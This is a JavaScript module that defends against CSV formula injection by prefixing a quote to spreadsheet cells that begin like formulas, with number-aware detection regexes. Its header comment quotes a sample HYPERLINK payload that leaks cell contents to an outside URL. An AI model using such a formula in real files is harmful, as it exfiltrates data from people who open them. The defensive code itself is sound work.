// Spreadsheet-safe CSV (OWASP "CSV injection"). Supporters choose their names and notes; a
// cell starting with = + - @, a tab or a carriage return runs as a formula when the creator
// opens the file in Excel, LibreOffice or Sheets (=HYPERLINK("http://…/?leak="&A1, …) sends
// other cells away). Such a cell gets a leading ' so spreadsheets show it as text.
//
// A plain number (-12.5, +3, 1e-3) is left alone: it cannot run, and prefixing it would turn
// a negative amount into text. Nothing else in the file changes: quoting, line ends and every
// other byte stay as the API sent them.
//
// No DOM here: the demo page imports it, and Node runs its unit cases (tests/e2e).

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Whether a spreadsheet would take `cell` (its value, unquoted) for a formula. */
export function startsLikeFormula(cell) {
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell);
}

/**
 * `text` (RFC 4180 CSV) with a `'` put at the start of every cell that starts like a formula
 * (inside the quotes of a quoted cell). Returns `{ text, neutralized }`, the count of cells
 * changed.
 */
export function spreadsheetSafe(text) {
  let out = "";
  let copied = 0;
  let neutralized = 0;
  let i = 0;
  const n = text.length;
  for (;;) {
    // One cell starts at `i`.
    let value = "";
    let contentStart = i;
    if (text[i] === '"') {
      contentStart = i + 1;
      i += 1;
      while (i < n) {
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        value += text[i];
        i += 1;
      }
      // Anything between a closing quote and the next delimiter is not RFC 4180; skip it.
      while (i < n && text[i] !== "," && text[i] !== "\n" && text[i] !== "\r") i += 1;
    } else {
      while (i < n && text[i] !== "," && text[i] !== "\n" && text[i] !== "\r") i += 1;
      value = text.slice(contentStart, i);
    }
    if (startsLikeFormula(value)) {
      out += `${text.slice(copied, contentStart)}'`;
      copied = contentStart;
      neutralized += 1;
    }
    if (i >= n) break;
    if (text[i] === ",") {
      i += 1;
      continue;
    }
    i += text[i] === "\r" && text[i + 1] === "\n" ? 2 : 1;
    if (i >= n) break;
  }
  return { text: out + text.slice(copied), neutralized };
}
